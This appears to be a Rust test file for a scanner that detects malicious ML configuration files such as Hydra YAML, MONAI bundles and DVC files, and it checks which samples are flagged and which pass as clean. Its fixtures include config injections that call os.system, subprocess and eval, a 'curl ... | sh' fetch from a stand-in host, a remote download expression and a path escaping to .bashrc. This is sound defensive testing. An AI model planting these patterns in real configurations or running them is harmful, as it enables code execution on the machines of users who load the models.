use weighbridge_types::Verdict;

use crate::core::testing::{inspect_bytes, rules, survives_damage, verdict};

fn yaml(source: &str) -> crate::core::Outcome {
    inspect_bytes("config.yaml", source.as_bytes())
}

#[test]
fn targets_that_run_commands_are_malicious_with_their_arguments_as_evidence() {
    for source in [
        "_target_: os.system\n_args_: ['touch /tmp/marker']\n",
        "model:\n  encoder:\n    _target_: subprocess.check_output\n    args: [touch, /tmp/marker]\n",
        "a: {_target_: builtins.eval, _args_: [\"__import__('os').system('true')\"]}\n",
        "a: {_target_: torch.os.system, command: 'true'}\n",
        "x:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "model:\n  target: subprocess.Popen\n  params: {args: id}\n",
        "target: os.system\n",
        "name: os.system\nmodel:\n  _target_: ${name}\n  command: 'true'\n",
        "lib: {root: os}\nfn: ${lib.root}.system\nmodel: {_target_: \"${fn}\"}\n",
        "model: {kind: os.system, _target_: \"${.kind}\"}\n",
        "model: !applyref:os.system [id]\n",
        "trainer:\n  class_path: os.system\n  init_args: {command: id}\n",
        "m: {_component_: importlib.import_module, name: evil}\n",
        "a: ${eval:'__import__(\"os\").system(\"true\")'}\n",
        "a: ${get_method:os.system}\n",
    ] {
        let outcome = yaml(source);
        assert_eq!(verdict(&outcome), Verdict::Malicious, "{source}: {:?}", outcome.findings);
    }
    let outcome = yaml("a:\n  _target_: os.system\n  _args_: ['touch /tmp/marker']\n");
    assert!(outcome.findings[0].detail.contains("touch /tmp/marker"), "{:?}", outcome.findings);
}

#[test]
fn configurations_of_honest_models_are_clean() {
    for source in [
        "target: nemo.collections.asr.models.EncDecCTCModelBPE\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\n",
        "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    linear_start: 0.00085\n",
        "model:\n  _target_: src.models.mnist_module.MNISTLitModule\n  optimizer:\n    _target_: torch.optim.Adam\n    _partial_: true\n",
        "paths:\n  root: ${oc.env:PROJECT_ROOT}\n  out: ${hydra:runtime.output_dir}\n  t: ${now:%Y-%m-%d}\n",
        "model:\n  _component_: torchtune.models.llama3.llama3_8b\n",
        "target: socket.io\nhost: {target: code.visualstudio.com}\n",
        "key: value\n",
        "cls: torch.nn.Linear\nmodel: {_target_: \"${cls}\"}\nother: {_target_: \"${elsewhere.cls}\"}\n",
        "a: ${b}\nb: ${a}\nmodel: {_target_: \"${a}\"}\n",
        "my_custom_target_types: 1\n",
    ] {
        let outcome = yaml(source);
        assert_eq!(verdict(&outcome), Verdict::Clean, "{source}: {:?}", outcome.findings);
    }
}

#[test]
fn unknown_functions_given_commands_are_suspicious() {
    assert_eq!(
        rules(&yaml("a: {_target_: helpers.start, cmd: 'curl http://x.example/a | sh'}\n")),
        ["config-unusual-callable"]
    );
    assert_eq!(rules(&yaml("a: {_target_: evil_pkg.Payload}\n")), ["config-unusual-callable"]);
    assert_eq!(rules(&yaml("a: {_target_: my_pkg.Net}\n")), ["config-unknown-callable"]);
}

#[test]
fn a_target_given_twice_counts_both_times() {
    let outcome = yaml("a: {_target_: os.system, _target_: torch.nn.Linear}\n");
    assert_eq!(rules(&outcome), ["config-dangerous-callable", "config-duplicate-key"]);
}

#[test]
fn monai_expressions_are_judged_as_python() {
    let evil = r#"{"imports": ["$import os"], "run": "$__import__('os').system('true')", "net": {"_target_": "monai.networks.nets.UNet"}}"#;
    assert_eq!(verdict(&inspect_bytes("inference.json", evil.as_bytes())), Verdict::Malicious);
    let fetch = r#"{"imports": [], "d": "$urllib.request.urlretrieve('https://h.example/x', @f)", "net": {"_target_": "UNet"}}"#;
    assert_eq!(rules(&inspect_bytes("evaluate.json", fetch.as_bytes())), ["config-unusual-expression"]);
    let honest = r#"{"imports": ["$import glob", "$import os"], "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')", "data": "$list(sorted(glob.glob(@dir + '/*')))", "net": {"_target_": "monai.networks.nets.UNet"}}"#;
    let outcome = inspect_bytes("inference.json", honest.as_bytes());
    assert_eq!((outcome.format, verdict(&outcome)), (Some("hydra-json"), Verdict::Clean));
}

#[test]
fn what_calls_code_is_recognised_anywhere_and_the_rest_only_beside_models() {
    assert_eq!(yaml("a: {_target_: x.Y}\n").format, Some("hydra-config"));
    assert_eq!(yaml("a: 1\n").format, Some("yaml-config"));
    assert_eq!(inspect_bytes("notes.txt", b"_target_: os.system\n").format, None);
    assert!(!yaml("a: 1\n").is_model);
}

#[test]
fn outputs_of_dvc_outside_their_folder_are_suspicious() {
    let outcome = inspect_bytes("model.dvc", b"outs:\n- md5: abc\n  path: ../../.bashrc\n");
    assert_eq!(rules(&outcome), ["dvc-output-outside"]);
    assert!(inspect_bytes("model.dvc", b"outs:\n- md5: abc\n  path: model.pt\n").findings.is_empty());
}

#[test]
fn damaged_configurations_are_survived() {
    survives_damage("config.yaml", b"a: &x {_target_: os.system, _args_: [id]}\nb: *x\nc: ${oc.env:HOME}\n");
}
